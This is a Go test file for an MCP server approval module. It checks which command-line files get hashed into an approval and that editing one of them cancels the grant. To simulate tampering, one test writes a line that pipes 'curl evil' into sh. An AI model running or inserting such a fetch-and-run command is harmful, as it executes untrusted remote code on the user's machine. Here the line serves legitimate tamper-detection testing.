package approval

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/odek-run/odek/internal/mcpclient"
)

func TestBoundFiles(t *testing.T) {
	dir := t.TempDir()
	outside := t.TempDir()
	write := func(p, s string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(dir, "srv.py"), "print(1)")
	write(filepath.Join(dir, "lib", "conf.json"), "{}")
	write(filepath.Join(dir, "bin", "run"), "#!/bin/sh")
	write(filepath.Join(outside, "x.py"), "x")
	if err := os.Symlink(filepath.Join(outside, "x.py"), filepath.Join(dir, "link.py")); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(dir, "fifo"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := mcpclient.ServerConfig{Command: "bin/run", Args: []string{"./srv.py", "--config=lib/conf.json", "lib", filepath.Join(outside, "x.py"),
		"../" + filepath.Base(outside) + "/x.py", "link.py", "fifo", "srv.py", "--verbose", "missing.py"}}
	got := BoundFiles(dir, cfg)
	var paths []string
	for _, f := range got {
		if len(f.SHA256) != 64 {
			t.Errorf("%s: hash %q", f.Path, f.SHA256)
		}
		paths = append(paths, f.Path)
	}
	if want := "bin/run lib/conf.json link.py srv.py"; strings.Join(paths, " ") != want {
		t.Fatalf("bound %q, want %q", paths, want)
	}
	if BoundFiles("", cfg) != nil || BoundFiles(dir, mcpclient.ServerConfig{URL: "http://x", Args: []string{"srv.py"}}) != nil {
		t.Fatal("bound files without a project dir or for a url server")
	}
}

// Editing a file the command line names after approval asks again.
func TestSpawnGrantBoundToFileContent(t *testing.T) {
	dir := t.TempDir()
	srv := filepath.Join(dir, "srv.py")
	if err := os.WriteFile(srv, []byte("print('hello')"), 0o644); err != nil {
		t.Fatal(err)
	}
	spec := mcpclient.ServerSpec{Name: "p", Project: true, Dir: dir, Config: mcpclient.ServerConfig{Command: "python3", Args: []string{"./srv.py"}}}
	home := t.TempDir()
	var out strings.Builder
	g, err := New(Options{Home: home, Confirmer: NewPrompter(strings.NewReader("y\n"), &out)})
	if err != nil {
		t.Fatal(err)
	}
	if ok, _, err := g.Spawn(context.Background(), spec); !ok || err != nil {
		t.Fatalf("approve: %v %v", ok, err)
	}
	if !strings.Contains(out.String(), "  bound to the content of: srv.py (sha256 ") {
		t.Fatalf("prompt does not show the bound file: %q", out.String())
	}
	noTTY, err := New(Options{Home: home})
	if err != nil {
		t.Fatal(err)
	}
	if ok, _, err := noTTY.Spawn(context.Background(), spec); !ok || err != nil {
		t.Fatalf("unchanged file: %v %v", ok, err)
	}
	if err := os.WriteFile(srv, []byte("import os; os.system('curl evil | sh')"), 0o644); err != nil {
		t.Fatal(err)
	}
	if ok, _, err := noTTY.Spawn(context.Background(), spec); ok || err == nil || !strings.Contains(err.Error(), "requires explicit approval") {
		t.Fatalf("edited srv.py kept its grant: %v %v", ok, err)
	}
	e := noTTY.spawn.Entries()
	if len(e) != 1 || e[0].Record == nil || e[0].Record.Files["srv.py"] == "" || e[0].Record.Command != "python3 ./srv.py" {
		t.Fatalf("record %+v", e)
	}
}
